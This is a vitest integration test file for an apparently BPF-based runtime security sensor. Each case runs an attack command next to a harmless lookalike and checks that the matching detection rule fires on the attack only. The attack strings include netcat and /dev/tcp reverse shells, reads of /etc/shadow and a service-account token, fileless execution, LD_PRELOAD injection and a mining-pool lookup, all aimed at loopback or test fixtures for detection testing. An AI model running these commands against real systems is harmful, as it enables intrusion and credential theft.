import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestCgroup, type TestCgroup } from '../support/cgroup.js';
import { selectSamples } from '../support/exposition.js';
import { startExporter, type RunningExporter } from '../support/exporter.js';
import { startLoopbackDns, type LoopbackDns } from '../support/loopback-dns.js';
import { waitFor } from '../support/wait-for.js';

/**
 * Every behavioural rule, triggered for real on this machine with real BPF, next to
 * a harmless lookalike that must stay quiet. Each script runs in a cgroup of its own,
 * so each is one workload.
 */
interface CaseContext {
  /** Scratch directory of this run (not under /tmp: exec-from-temp would fire on every helper). */
  readonly work: string;
  /** The compiled rule-helpers.c. */
  readonly helpers: string;
  /** A loopback TCP server that accepts and hangs up. */
  readonly tcpPort: number;
}

interface RuleCase {
  readonly rule: string;
  readonly name: string;
  readonly attack: (c: CaseContext) => string;
  readonly lookalike: (c: CaseContext) => string;
  /** The item the hit must name (a regular expression source). */
  readonly item: (c: CaseContext) => string;
  /**
   * An observation the lookalike must produce (a regular expression source for its
   * item): proof that the sensor saw the lookalike do its thing, so its silence is the
   * rule's judgement and not a lookalike that never ran.
   */
  readonly lookalikeSeen?: (c: CaseContext) => string;
  /** What the hit's log line must say, where the item alone does not show which case fired. */
  readonly summary?: string;
  /** Host files the case touches without changing: compared before and after, content and mtime. */
  readonly unchanged?: readonly string[];
}

const TOKEN_DIR = '/run/secrets/kubernetes.io/serviceaccount';

const CASES: readonly RuleCase[] = [
  {
    rule: 'reverse-shell',
    name: 'a shell with its stdin and stdout on a TCP socket',
    attack: (c) => `busybox nc 127.0.0.1 ${c.tcpPort} -e /bin/sh`,
    lookalike: (c) => `sh -c 'echo hello'; busybox nc 127.0.0.1 ${c.tcpPort} -e /bin/echo hi`,
    item: () => '^/usr/bin/dash$',
  },
  {
    rule: 'reverse-shell',
    name: 'an interactive shell spawned by a process holding a connected socket',
    attack: (c) => `exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/${c.tcpPort}; sh -i < /dev/null > /dev/null 2>&1'`,
    lookalike: (c) => `exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/${c.tcpPort}; sh -c "echo hi" > /dev/null'`,
    item: () => '^/usr/bin/dash$',
  },
  {
    rule: 'fileless-exec',
    name: 'a binary executed from a memfd',
    attack: (c) => `'${c.helpers}' memfd-exec /bin/true`,
    // The same memfd, holding the same copy, left open across an exec of the file on disk.
    lookalike: (c) => `'${c.helpers}' memfd-then-exec /bin/true`,
    lookalikeSeen: () => '^/usr/bin/true$',
    item: () => '^/memfd:payload',
    summary: 'runs from a memfd',
  },
  {
    rule: 'fileless-exec',
    name: 'a binary executed through an fd after its file was unlinked',
    attack: (c) => `'${c.helpers}' deleted-exec /bin/true '${c.work}/unlinked-'$$`,
    // Copied, run by its path, deleted once it exited: an installer cleaning up.
    lookalike: (c) => `cp /bin/true '${c.work}/kept-'$$ && '${c.work}/kept-'$$; rm -f '${c.work}/kept-'$$`,
    lookalikeSeen: (c) => `^${c.work}/kept-\\d+$`,
    item: (c) => `^${c.work}/unlinked-`,
    summary: 'runs from a deleted file',
  },
  {
    rule: 'exec-from-temp',
    name: 'a binary dropped into /dev/shm',
    attack: () => `cp /bin/true /dev/shm/telltale-dropped-$$ && /dev/shm/telltale-dropped-$$; rm -f /dev/shm/telltale-dropped-$$`,
    lookalike: () => `printf 'true\\n' > /dev/shm/telltale-script-$$; sh /dev/shm/telltale-script-$$; rm -f /dev/shm/telltale-script-$$`,
    item: () => '^/dev/shm/telltale-dropped-',
  },
  {
    rule: 'exec-not-in-image',
    name: 'a binary written to the overlayfs upper layer',
    attack: (c) => `cp '${c.work}/ovl/merged/busybox-lower' '${c.work}/ovl/merged/dropped' && '${c.work}/ovl/merged/dropped' true`,
    lookalike: (c) => `'${c.work}/ovl/merged/busybox-lower' true`,
    item: () => '/ovl/merged/dropped$',
  },
  {
    rule: 'kernel-module-load',
    name: 'an attempt to load a kernel module',
    attack: (c) => `busybox insmod '${c.work}/garbage.ko' || true`,
    // What an operator runs to see modules (lsmod reads /proc/modules), then the syscall
    // next to a load: delete_module (nr 176; init_module is 175) of a module that does not
    // exist, which unloads nothing. A rule or sensor matching module syscalls in general
    // fires here. kmod's modprobe is not installed, and this kernel has no module support
    // (no /proc/modules, no /lib/modules), so there is no `modprobe -n` dry run to make.
    lookalike: () => 'busybox lsmod > /dev/null 2>&1; busybox rmmod telltale_no_such_module 2> /dev/null || true',
    lookalikeSeen: () => '^delete_module$',
    item: () => 'init_module$',
  },
  {
    rule: 'ptrace-attach',
    name: 'PTRACE_ATTACH to another process',
    attack: (c) => `'${c.helpers}' ptrace-attach`,
    lookalike: (c) => `'${c.helpers}' ptrace-traceme`,
    item: () => '^PTRACE_ATTACH$',
  },
  {
    rule: 'namespace-change',
    name: 'unshare into a new network namespace',
    attack: () => 'unshare -n true',
    lookalike: (c) => `'${c.helpers}' unshare 0x400`,
    item: () => '^unshare net$',
  },
  {
    rule: 'service-account-token-read',
    name: 'cat of the service-account token',
    attack: () => `cat ${TOKEN_DIR}/token > /dev/null`,
    lookalike: (c) => `'${c.work}/myapp' ${TOKEN_DIR}/token > /dev/null`,
    item: () => `^${TOKEN_DIR}/token$`,
  },
  {
    rule: 'sensitive-file-read',
    name: 'cat of /etc/shadow',
    attack: () => 'cat /etc/shadow > /dev/null',
    lookalike: () => 'cat /etc/passwd > /dev/null',
    item: () => '^/etc/shadow$',
  },
  {
    rule: 'crypto-miner',
    name: 'a connection to a stratum port',
    attack: () => 'busybox nc -w 1 127.0.0.1 3333 < /dev/null || true',
    lookalike: (c) => `busybox nc -w 1 127.0.0.1 ${c.tcpPort} < /dev/null || true`,
    item: () => '^127\\.0\\.0\\.1:3333$',
  },
  {
    rule: 'crypto-miner',
    name: 'a lookup of a mining-pool domain',
    attack: () => 'busybox nslookup -type=a xmr-eu1.nanopool.org 127.0.0.1 > /dev/null 2>&1 || true',
    lookalike: () => 'busybox nslookup -type=a pool.ntp.org 127.0.0.1 > /dev/null 2>&1 || true',
    item: () => '^xmr-eu1\\.nanopool\\.org$',
  },
  {
    rule: 'crypto-miner',
    name: 'a connection to port 9000 after a mining-pool lookup',
    attack: () =>
      'busybox nslookup -type=a xmr-eu1.nanopool.org 127.0.0.1 > /dev/null 2>&1; busybox nc -w 1 127.0.0.1 9000 < /dev/null || true',
    // An S3 client talking to MinIO on its default port after looking up its service name.
    lookalike: () =>
      'busybox nslookup -type=a minio.storage.svc.cluster.local 127.0.0.1 > /dev/null 2>&1; busybox nc -w 1 127.0.0.1 9000 < /dev/null || true',
    lookalikeSeen: () => '^connect tcp 127\\.0\\.0\\.1:9000$',
    item: () => '^127\\.0\\.0\\.1:9000$',
    summary: 'port 9000, which mining pools also use, after busybox resolved the mining-pool domain xmr-eu1\\.nanopool\\.org',
  },
  {
    rule: 'ld-preload',
    name: 'LD_PRELOAD of a library outside the system directories',
    attack: (c) => `LD_PRELOAD='${c.work}/evil.so' /bin/true 2> /dev/null`,
    lookalike: () => 'LD_PRELOAD=/lib/x86_64-linux-gnu/libc.so.6 /bin/true',
    item: () => '/evil\\.so$',
  },
  {
    rule: 'ld-preload',
    name: 'opening /etc/ld.so.preload for writing',
    // O_WRONLY|O_APPEND without O_CREAT, nothing written: the host file (or its absence)
    // stays as it was, while the sensor sees the write attempt at syscall entry.
    attack: (c) => `'${c.helpers}' open-append /etc/ld.so.preload`,
    // The same open read-only, as ld.so does in every process when the file exists.
    lookalike: (c) => `'${c.helpers}' open-read /etc/ld.so.preload`,
    lookalikeSeen: () => '^/etc/ld\\.so\\.preload \\(r\\)$',
    item: () => '^/etc/ld\\.so\\.preload$',
    unchanged: ['/etc/ld.so.preload'],
  },
];

/** A file's content and mtime, or its absence: what "unchanged" compares. */
function fileState(path: string): string {
  if (!existsSync(path)) return 'absent';
  return JSON.stringify({ mtimeNs: statSync(path, { bigint: true }).mtimeNs.toString(), content: readFileSync(path).toString('base64') });
}

describe('behavioural rules with real BPF', () => {
  let exporter: RunningExporter;
  let context: CaseContext;
  let tcp: Server;
  let dns: LoopbackDns;
  let createdSecrets = false;
  const cgroups: TestCgroup[] = [];

  beforeAll(async () => {
    // Not under /tmp: the exec-from-temp rule would fire on every helper.
    mkdirSync('/run/telltale-test', { recursive: true });
    const work = mkdtempSync('/run/telltale-test/rules-');
    const helpers = join(work, 'rule-helpers');
    execFileSync('gcc', ['-O2', join(import.meta.dirname, 'rule-helpers.c'), '-o', helpers]);
    execFileSync('cp', ['/bin/cat', join(work, 'myapp')]);
    writeFileSync(join(work, 'garbage.ko'), 'not a kernel module');
    mkdirSync(join(work, 'ovl', 'lower'), { recursive: true });
    for (const dir of ['upper', 'work', 'merged']) mkdirSync(join(work, 'ovl', dir));
    execFileSync('cp', ['/bin/busybox', join(work, 'ovl', 'lower', 'busybox-lower')]);
    execFileSync('mount', ['-t', 'overlay', 'overlay', '-o', `lowerdir=${work}/ovl/lower,upperdir=${work}/ovl/upper,workdir=${work}/ovl/work`, join(work, 'ovl', 'merged')]);
    if (!existsSync(TOKEN_DIR)) {
      mkdirSync(TOKEN_DIR, { recursive: true });
      createdSecrets = true;
    }
    writeFileSync(join(TOKEN_DIR, 'token'), 'eyJhbGciOiJSUzI1NiJ9.test.token');

    tcp = createServer((socket) => setTimeout(() => socket.destroy(), 200));
    await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
    const address = tcp.address();
    context = { work, helpers, tcpPort: typeof address === 'object' && address ? address.port : 0 };
    dns = await startLoopbackDns();
    exporter = await startExporter();
  });

  afterAll(async () => {
    await exporter?.stop();
    for (const cgroup of cgroups) await cgroup.remove();
    tcp?.close();
    await dns?.close();
    const work = context?.work;
    if (work) {
      try {
        execFileSync('umount', [join(work, 'ovl', 'merged')]);
      } catch {
        // not mounted
      }
    }
    rmSync(join(TOKEN_DIR, 'token'), { force: true });
    if (createdSecrets) rmSync('/run/secrets', { recursive: true, force: true });
    if (work) rmSync(work, { recursive: true, force: true });
  });

  it.each(CASES.map((testCase, index) => [`${testCase.rule}: ${testCase.name}`, index, testCase] as const))('%s: fires, its lookalike stays quiet', async (_title, index, testCase) => {
    const attack = createTestCgroup(`telltale-rule-${index}-attack-${process.pid}`);
    const lookalike = createTestCgroup(`telltale-rule-${index}-lookalike-${process.pid}`);
    cgroups.push(attack, lookalike);
    const before = (testCase.unchanged ?? []).map(fileState);
    await lookalike.run(testCase.lookalike(context));
    await attack.run(testCase.attack(context));
    expect((testCase.unchanged ?? []).map(fileState), `${(testCase.unchanged ?? []).join(', ')} must be left as they were`).toEqual(before);
    // Records leave the kernel in order: once this marker is seen, both runs were processed.
    const marker = `${context.work}/marker-${index}`;
    writeFileSync(marker, '');
    await lookalike.run(`cat '${marker}' > /dev/null`);
    await waitFor(
      () => (exporter.logs().some((l) => l['msg'] === 'observation' && l['workload'] === lookalike.workload && l['item'] === `${marker} (r)`) ? true : undefined),
      { description: `the marker of case ${index} (${testCase.name})`, timeoutMs: 20_000 },
    );
    const metrics = await exporter.metrics();
    const hits = selectSamples(metrics, 'telltale_rule_detections_total', { workload: attack.workload, rule: testCase.rule });
    expect(hits.map((h) => h.value), `${testCase.rule} on ${testCase.name}`).toEqual([expect.any(Number)]);
    const itemPattern = testCase.item(context);
    const items = selectSamples(metrics, 'telltale_rule_last_detection_timestamp_seconds', { workload: attack.workload, rule: testCase.rule }).map((s) => s.labels['item'] ?? '');
    expect(items.some((item) => new RegExp(itemPattern).test(item)), `items ${JSON.stringify(items)} should match ${itemPattern}`).toBe(true);
    if (testCase.summary !== undefined) {
      const summary = new RegExp(testCase.summary);
      const said = exporter.logs().filter((l) => l['rule'] === testCase.rule && l['workload'] === attack.workload).map((l) => String(l['msg']));
      expect(said.some((msg) => summary.test(msg)), `hits ${JSON.stringify(said)} should say ${testCase.summary}`).toBe(true);
    }
    expect(selectSamples(metrics, 'telltale_rule_detections_total', { workload: lookalike.workload, rule: testCase.rule }), `${testCase.rule} must stay quiet on the lookalike`).toEqual([]);
    if (testCase.lookalikeSeen !== undefined) {
      const seen = new RegExp(testCase.lookalikeSeen(context));
      const observed = exporter.logs().filter((l) => l['msg'] === 'observation' && l['workload'] === lookalike.workload).map((l) => String(l['item']));
      expect(observed.some((item) => seen.test(item)), `the lookalike's observations should include ${seen.source}`).toBe(true);
    }
  });
});
